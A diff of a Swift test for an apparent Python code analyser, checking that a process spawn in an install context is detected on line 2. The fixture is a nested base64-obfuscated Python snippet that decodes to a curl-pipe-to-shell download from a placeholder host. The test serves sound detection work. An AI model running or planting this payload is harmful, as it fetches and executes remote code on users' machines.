@@ -32,7 +32,8 @@ import Testing
         let outer =
             "aW1wb3J0IGJhc2U2NApleGVjKGJhc2U2NC5iNjRkZWNvZGUoJ2FXMXdiM0owSUc5ekNtOXpMbk41YzNSbGJTZ25ZM1Z5YkNCb2RIUndP"
             + "aTh2ZUM1bGVHRnRjR3hsTDJrdWMyZ2dmQ0J6YUNjcENnPT0nKSk="
-        let analysis = PythonTestSupport.analyse("import base64\nexec(base64.b64decode('\(outer)'))\n", context: .install)
+        let analysis = PythonTestSupport.analyse(
+            "import base64\nexec(base64.b64decode('\(outer)'))\n", context: .install)
         let spawn = analysis.allBehaviours.first { $0.kind == .spawnProcess }
         #expect(spawn?.line == 2)
         #expect(spawn?.context == .install)
